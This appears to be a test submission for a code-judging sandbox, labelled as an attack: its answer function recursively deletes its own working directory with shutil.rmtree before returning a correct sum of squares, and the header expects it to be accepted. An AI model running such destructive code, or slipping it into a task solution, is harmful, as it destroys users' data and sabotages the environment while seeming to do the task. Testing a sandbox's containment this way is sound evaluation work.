# id: R59g
# attack: deletes its working directory and its own source
# challenge: limits-one-answer
# expect: accepted
# passes: all
import os
import shutil


def answer(values):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    os.chdir("/")
    return sum(value * value for value in values)
